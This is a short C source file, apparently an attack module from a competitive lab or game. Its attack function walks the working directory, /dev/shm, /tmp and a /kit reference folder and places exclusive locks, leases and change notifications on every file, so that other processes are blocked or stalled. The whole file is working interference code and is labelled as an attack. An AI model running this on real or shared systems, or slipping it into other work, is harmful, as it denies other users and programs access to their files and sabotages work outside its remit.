/*
 * locks-and-leases.c - locks, leases and watches every file of the lab and the kit
 *
 * play: first 03 client
 * play: ready 01 server
 * play: first 05 client
 * play: ready 05 server
 */
static void
hold(const char *path)
{
    struct flock whole = {.l_type = F_WRLCK};
    int fd = open(path, O_RDWR | O_NONBLOCK);

    if (fd == -1)
        fd = open(path, O_RDONLY | O_NONBLOCK);
    if (fd == -1)
        return;
    flock(fd, LOCK_EX | LOCK_NB);
    fcntl(fd, F_OFD_SETLK, &whole);
    fcntl(fd, F_SETLK, &whole);
    fcntl(fd, F_SETLEASE, F_RDLCK);
    fcntl(fd, F_SETLEASE, F_WRLCK);
    fcntl(fd, F_NOTIFY, 0x8000003f);
}

static void
hold_all(const char *folder)
{
    DIR *dir = opendir(folder);
    struct dirent *entry;
    char path[PATH_MAX];

    while (dir != NULL && (entry = readdir(dir)) != NULL) {
        snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
        hold(path);
    }
    if (dir != NULL)
        closedir(dir);
}

static void
attack(void)
{
    hold_all(".");
    hold_all("/dev/shm");
    hold_all("/kit");
    hold_all("/kit/reference");
    hold_all("/tmp");
}
